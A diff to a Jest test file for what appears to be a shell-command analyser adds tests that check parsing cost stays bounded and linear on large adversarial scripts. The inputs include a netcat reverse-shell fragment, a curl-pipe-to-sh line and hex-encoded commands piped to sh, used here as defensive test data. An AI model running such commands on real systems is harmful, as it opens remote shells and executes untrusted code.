@@ -6,7 +6,7 @@ import { describe, expect, it } from '@jest/globals';
 import fc from 'fast-check';
 
 import { buildCommandModel } from '../src/workload/command.js';
-import { MAX_NESTING, parseShell } from '../src/workload/shell.js';
+import { MAX_NESTING, parseShell, parseWork } from '../src/workload/shell.js';
 import type { SimpleCommand } from '../src/workload/types.js';
 
 const TOKENS = [
@@ -243,9 +243,13 @@ describe('adversarial inputs', () => {
     ['printf formats', `printf '${fill('%s')}' ${fill('a ')}`],
     ['cat chains', `echo id ${fill('| cat ')} | sh`],
     ['eval strings', fill('eval ')],
+    ['echo flags', `echo ${fill('-e ')} '\\x69\\x64' | sh`],
+    ['environment per eval', fill('eval x;')],
   ])('%s: 1 MiB command model stays bounded', (_name, script) => {
     const started = performance.now();
-    const model = buildCommandModel({ command: ['sh', '-c', script] }, []);
+    // A large environment: every nested script (each `eval`) must not cost its size again.
+    const env = Array.from({ length: 10_000 }, (_, i) => ({ name: `V${i}`, value: 'x', isReference: false }));
+    const model = buildCommandModel({ command: ['sh', '-c', script] }, env);
     const elapsed = performance.now() - started;
     expect(model.problems.every((problem) => !problem.startsWith('command analysis failed'))).toBe(true);
     expect(model.decoded.reduce((total, payload) => total + payload.text.length, 0)).toBeLessThanOrEqual(
@@ -255,5 +259,59 @@ describe('adversarial inputs', () => {
       4 * MiB,
     );
     expect(elapsed).toBeLessThan(GENEROUS_MS);
+  });
+});
+
+describe('work against input size', () => {
+  const KiB = 1024;
+  const fill = (unit: string, bytes: number): string =>
+    unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
+  /** Characters the parser examined to build the command model of `sh -c script`. */
+  function work(script: string): number {
+    const before = parseWork.characters;
+    buildCommandModel({ command: ['sh', '-c', script] }, []);
+    return parseWork.characters - before;
+  }
+
+  /**
+   * No clock: the parser counts the characters it examines, and 16 times the input must cost at most
+   * about 16 times the work. A path that rescans the rest of the script per token fails by far.
+   */
+  it.each([
+    '(',
+    '$(',
+    '$(a ',
+    '${',
+    '"',
+    "'",
+    '\\',
+    '`',
+    '`\\`\\\\\\`',
+    "$'\\",
+    '<<A\n',
+    '<<A ',
+    'case a in a) ',
+    'if then ',
+    'a;',
+    'a|',
+    '2>&1 ',
+    'A=1 ',
+    'A=$A$A ',
+    'a',
+    '$((',
+    '<(',
+    '[[ ',
+    'f() { ',
+    '#',
+    '\\x41',
+    'nc -e /bin/sh 1.2.3.4 1 ; ',
+    'curl http://x/|sh;',
+    "sh -c '",
+    'eval ',
+    "printf '\\x69\\x64' | sh;",
+  ])('%j: 16 times the input is at most 16 times the work', (unit) => {
+    const small = work(fill(unit, 16 * KiB));
+    const large = work(fill(unit, 256 * KiB));
+    expect(large).toBeLessThanOrEqual(16 * small * 1.05 + 1000);
   });
 });
